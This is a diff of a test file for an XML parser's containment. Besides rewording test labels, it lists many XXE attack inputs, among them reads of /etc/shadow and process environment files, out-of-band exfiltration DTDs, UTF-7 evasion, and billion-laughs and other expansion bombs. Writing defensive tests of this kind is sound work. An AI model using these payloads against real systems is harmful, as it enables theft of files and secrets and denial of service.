@@ -7,7 +7,7 @@ const DEADLINE_MS = 1000
 const contained = createContainment({ workers: 2 })
 afterAll(() => contained.close())
 
-/** The files of the attacked world, with what an attacker may have put there. */
+/** The files of the attacked world, some of them uploaded by the attacker. */
 const FILES: Readonly<Record<string, string>> = {
   '/etc/passwd': 'root:x:0:0:invented:/root:/bin/sh',
   '/uploads/steal.dtd': `<!ENTITY % all "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1/?%file;'>">%all;`,
@@ -40,15 +40,15 @@ testEscapes({
   deadlineMs: DEADLINE_MS,
   calm: () => contained.xml({ owner: 'calm', bytes: Buffer.from('<o>calm</o>') }),
   attempts: [
-    showing('a file of the host by its address', ({ file }) => `file://${file}`),
+    showing('a file of the host by its URL', ({ file }) => `file://${file}`),
     showing('a file of the host by its path', ({ file }) => file),
-    showing('a file of the host from where the process runs', ({ file }) => `${'../'.repeat(20)}${file}`),
+    showing('a file of the host by a relative path', ({ file }) => `${'../'.repeat(20)}${file}`),
     showing('a file of the host with a host name', ({ file }) => `file://localhost${file}`),
     showing(
-      'a file of the host in percent signs',
+      'a file of the host, percent-encoded',
       ({ file }) => `file://${[...file].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`,
     ),
-    showing('a file of the host behind a sign that ends it', ({ file }) => `file://${file}%00.xml`),
+    showing('a file of the host before a null byte', ({ file }) => `file://${file}%00.xml`),
     showing('a folder of the host', ({ folder }) => `file://${folder}/`),
     showing('the host’s account file', () => 'file:///etc/shadow'),
     showing('the environment of the process', () => 'file:///proc/self/environ'),
@@ -56,8 +56,8 @@ testEscapes({
     showing('an open file of the process', () => 'file:///proc/self/fd/3'),
     showing('the input of the process', () => 'file:///dev/stdin', /limit/),
     showing('the terminal of the library', () => '/dev/tty', /limit/),
-    showing('random numbers without an end', () => 'file:///dev/urandom', /limit/),
-    showing('zeros without an end', () => 'file:///./dev/../dev/zero', /limit/),
+    showing('endless random numbers', () => 'file:///dev/urandom', /limit/),
+    showing('endless zeros', () => 'file:///./dev/../dev/zero', /limit/),
     showing('an address of the web', ({ host }) => `http://${host}/`),
     showing('an address of the web with TLS', ({ host }) => `https://${host}/`),
     showing('an address by FTP', ({ host }) => `ftp://${host}/a`),
@@ -69,22 +69,19 @@ testEscapes({
     showing('a file through Java', ({ file }) => `netdoc:${file}`),
     showing('a file in an archive of the web', ({ host }) => `jar:http://${host}/a.jar!/b`),
     showing('data in its address', () => 'data:text/plain;base64,aGVsbG8='),
-    attempt('an external description of the document', ({ host }) => `<!DOCTYPE o SYSTEM "http://${host}/o.dtd"><o/>`),
+    attempt('an external DTD', ({ host }) => `<!DOCTYPE o SYSTEM "http://${host}/o.dtd"><o/>`),
+    attempt('a public DTD', ({ host }) => `<!DOCTYPE o PUBLIC "-//O//O" "http://${host}/o.dtd"><o/>`),
     attempt(
-      'a public description of the document',
-      ({ host }) => `<!DOCTYPE o PUBLIC "-//O//O" "http://${host}/o.dtd"><o/>`,
-    ),
-    attempt(
-      'a description that lies on many machines',
+      'a DTD that many machines have',
       () => '<!DOCTYPE o [<!ENTITY % d SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">%d;]><o/>',
     ),
     attempt(
-      'a file carried off in an address',
+      'a file exfiltrated in a URL',
       ({ file, host }) =>
         `<!DOCTYPE o [<!ENTITY % file SYSTEM "file://${file}"><!ENTITY % d SYSTEM "http://${host}/d.dtd">%d;%send;]><o/>`,
     ),
     attempt(
-      'a file carried off by a description in the shop',
+      'a file exfiltrated by a DTD in the shop',
       ({ file }) =>
         `<!DOCTYPE o [<!ENTITY % file SYSTEM "file://${file}"><!ENTITY % d SYSTEM "/uploads/steal.dtd">%d;%send;]><o/>`,
     ),
@@ -122,61 +119,57 @@ testEscapes({
       Buffer.from(`\ufeff<!DOCTYPE o [<!ENTITY x SYSTEM "file://${file}">]><o>&x;</o>`, 'utf16le'),
     ),
     attempt(
-      'an encoding that hides signs',
+      'an encoding that hides characters',
       ({ file }) =>
         `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE o +AFs-+ADw-+ACE-ENTITY x SYSTEM +ACI-file://${file}+ACI-+AD4-+AF0-+AD4-+ADw-o+AD4-+ACY-x+ADs-+ADw-/o+AD4-`,
       /refused/,
     ),
     attempt('a billion laughs', () => `<!DOCTYPE o [<!ENTITY l0 "ha">${levels('', 9, 10)}]><o>&l9;</o>`, /refused/),
     attempt(
-      'a billion laughs of parameters',
+      'a billion laughs with parameter entities',
       () => `<!DOCTYPE o [<!ENTITY % l0 "ha">${levels('%', 9, 10)}%l9;]><o/>`,
       /refused/,
     ),
     attempt(
-      'a long entity many times over',
+      'a long entity, repeated many times',
       () => `<!DOCTYPE o [<!ENTITY x "${'x'.repeat(90_000)}">]><o>${'&x;'.repeat(30_000)}</o>`,
       /limit/,
     ),
     attempt(
-      'a large file many times over',
+      'a large file, repeated many times',
       () => `<!DOCTYPE o [<!ENTITY x SYSTEM "/uploads/large.txt">]><o>${'&x;'.repeat(5000)}</o>`,
       /refused|limit/,
     ),
     attempt(
-      'a default of an attribute many times over',
+      'a default of an attribute, repeated many times',
       () => `<!DOCTYPE o [<!ATTLIST a b CDATA "${'x'.repeat(90_000)}">]><o>${'<a/>'.repeat(20_000)}</o>`,
       /value|limit/,
     ),
     attempt(
-      'an entity of many elements many times over',
+      'an entity with many elements, repeated many times',
       () => `<!DOCTYPE o [<!ENTITY x "${'<a/>'.repeat(9000)}">]><o>${'&x;'.repeat(9000)}</o>`,
       /limit/,
     ),
     attempt(
-      'a long entity many times over in one attribute',
+      'a long entity, repeated in one attribute',
       () => `<!DOCTYPE o [<!ENTITY x "${'x'.repeat(45_000)}">]><o a="${'&x;'.repeat(9000)}"/>`,
       /limit/,
     ),
     attempt(
-      'a long entity of parameters many times over',
+      'a long parameter entity, repeated many times',
       () => `<!DOCTYPE o [<!ENTITY % x "${' '.repeat(45_000)}">${'%x;'.repeat(9000)}]><o/>`,
       /value|limit/,
     ),
+    attempt('the random device as DTD', () => '<!DOCTYPE o SYSTEM "file:///dev/random"><o/>', /limit/),
+    attempt('circular entities', () => '<!DOCTYPE o [<!ENTITY a "&b;"><!ENTITY b "&a;">]><o>&a;</o>', /refused/),
     attempt(
-      'the device of random numbers as the description of the document',
-      () => '<!DOCTYPE o SYSTEM "file:///dev/random"><o/>',
-      /limit/,
-    ),
-    attempt('entities in a ring', () => '<!DOCTYPE o [<!ENTITY a "&b;"><!ENTITY b "&a;">]><o>&a;</o>', /refused/),
-    attempt(
-      'a file that names itself',
+      'a file that includes itself',
       () => '<!DOCTYPE o [<!ENTITY again SYSTEM "/uploads/loop.xml">]><o>&again;</o>',
       /refused/,
     ),
-    attempt('elements in elements', () => '<a>'.repeat(300_000), /refused/),
+    attempt('deeply nested elements', () => '<a>'.repeat(300_000), /refused/),
     attempt(
-      'a deep model of content',
+      'a deeply nested content model',
       () => `<!DOCTYPE o [<!ELEMENT o ${'('.repeat(100_000)}a${')'.repeat(100_000)}>]><o/>`,
       /refused/,
     ),
@@ -186,7 +179,7 @@ testEscapes({
       /value|refused|limit/,
     ),
     attempt(
-      'many names of spaces',
+      'many namespaces',
       () => `${Array.from({ length: 20_000 }, (_, i) => `<a xmlns:n${i}="n${i}"/>`).join('')}`,
       /refused/,
     ),
